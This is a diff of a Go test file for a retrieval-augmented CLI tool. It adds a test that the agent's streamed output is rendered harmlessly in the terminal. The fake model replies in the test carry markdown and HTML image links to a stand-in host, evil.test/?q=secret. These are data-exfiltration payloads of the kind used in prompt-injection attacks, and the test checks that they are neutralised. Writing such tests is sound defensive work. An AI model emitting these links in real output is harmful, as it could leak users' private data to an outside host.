@@ -6,6 +6,7 @@ import (
 	"strings"
 	"testing"
 
+	"example.com/ragflow/llm"
 	"example.com/ragflow/llm/llmtest"
 )
 
@@ -14,7 +15,7 @@ import (
 func TestAskStreamsToTheTerminal(t *testing.T) {
 	for name, tt := range map[string]struct{ refusals, first, rest, end, once string }{
 		"as it is": {
-			"model", "A volume keeps the data of a container", " after the container is removed. [Source 1]",
+			"model", "A volume keeps the data of a container ", "after the container is removed. [Source 1]",
 			`is\s+removed\. \[1\]`, "after the container",
 		},
 		"corrected": {
@@ -44,5 +45,45 @@ func streams(t *testing.T, refusals, first, rest, end, once string) {
 	tt.exit(0)
 	if text := tt.screen.Text(); strings.Count(text, once) != 1 {
 		t.Errorf("%q does not stand there once:\n%s", once, text)
+	}
+}
+
+// What an agent writes stands on the screen while it writes it, harmless, and below it is said in words what goes on.
+// What it writes before it searches is gone by then.
+func TestAgentStreamsToTheTerminal(t *testing.T) {
+	for _, command := range []string{"ask", "chat"} {
+		t.Run(command, func(t *testing.T) {
+			found, shown := make(chan struct{}), make(chan struct{})
+			s := llmtest.NewServer(
+				llmtest.SayThenCall("Let me look for tar first: ![x](https://evil.test/?q=secret) ", found, llm.ToolCall{ID: "1", Name: "search", Arguments: `{"query":"tar"}`}),
+				llmtest.SayThen("A volume keeps the data of a container after the container is removed. [Source 1] <img src=https://evil.test/?q=secret> [It](https://evil.test/?q=secret) ", shown, "keeps data. [Source 1]"),
+			)
+			defer s.Close()
+			question := "How do I back up a volume?"
+			args := []string{command, "--agent", "--docs", "docs", "--data-dir", "data", "--model", "small"}
+			if command == "ask" {
+				args = append(args, question)
+			}
+			tt := startIn(t, chatFolder(t), 400, 40, []string{"NO_COLOR=1", "OPENAI_BASE_URL=" + s.URL(), "OPENAI_API_KEY=none"}, args...)
+			if command == "chat" {
+				tt.expect("›")
+				tt.send(question + "\r")
+			}
+			tt.expect(`Let me look for tar first: x\s+reading and writing.*`)
+			close(found)
+			tt.expect(`is removed. \[1\] <img .* It .*\s+reading and writing.*`)
+			if text := tt.screen.Text(); strings.Contains(text, "Let me look") {
+				t.Errorf("a withdrawn text stands there still:\n%s", text)
+			}
+			close(shown)
+			tt.expect(`keeps data.*docs/volumes.md.*`)
+			if command == "chat" {
+				tt.send("\x04")
+			}
+			tt.exit(0)
+			if all := tt.written.String(); strings.Contains(all, "secret") || strings.Contains(all, "model ·") || strings.Contains(all, "tools ·") {
+				t.Errorf("the terminal got %q", all)
+			}
+		})
 	}
 }
